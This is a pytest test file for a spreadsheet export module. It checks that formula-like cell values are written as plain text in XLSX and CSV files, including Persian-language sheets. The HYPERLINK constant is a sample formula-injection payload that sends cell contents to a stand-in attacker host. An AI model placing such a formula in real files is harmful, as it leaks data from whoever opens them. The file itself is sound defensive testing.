"""One writer for every spreadsheet export; nothing in a cell runs when the file is opened."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ravabet.lib.spreadsheets import Sheet, as_text, to_csv, to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "typed", [HYPERLINK, "+98 912", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+1"]
)
def test_what_a_spreadsheet_would_run_is_written_as_text(typed: str) -> None:
    assert as_text(typed) == "'" + typed


@pytest.mark.parametrize("value", ["سلام", "09121112233", "a=b", "", None, -3, 2.5])
def test_everything_else_is_written_as_it_is(value: object) -> None:
    assert as_text(value) == value


def test_xlsx_read_back_holds_text_where_a_formula_was_typed() -> None:
    data = to_xlsx(
        [
            Sheet(["نام", "=header"], [["سمیرا", HYPERLINK], ["کیوان", -3]], title="Journalists"),
            Sheet(["x"], [[None]]),
        ]
    )
    book = load_workbook(io.BytesIO(data))
    sheet = book["Journalists"]
    cell = sheet["B2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + HYPERLINK
    assert sheet["B1"].value == "'=header"
    assert sheet["B3"].value == -3
    assert sheet["A1"].font.b
    assert sheet.sheet_view.rightToLeft
    assert book.sheetnames == ["Journalists", "Sheet"]
    # Nothing anywhere in the workbook is a formula.
    assert all(c.data_type != "f" for ws in book for row in ws.iter_rows() for c in row)


def test_a_sheet_title_is_cut_to_excels_limit() -> None:
    book = load_workbook(io.BytesIO(to_xlsx([Sheet(["x"], [], title="ن" * 40)])))
    assert book.sheetnames == ["ن" * 31]


def test_csv_neutralises_the_same_cells() -> None:
    text = to_csv(Sheet(["نام", "یادداشت"], [["سمیرا", HYPERLINK], ["کیوان", "\tx"]]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["نام", "یادداشت"], ["سمیرا", "'" + HYPERLINK], ["کیوان", "'\tx"]]
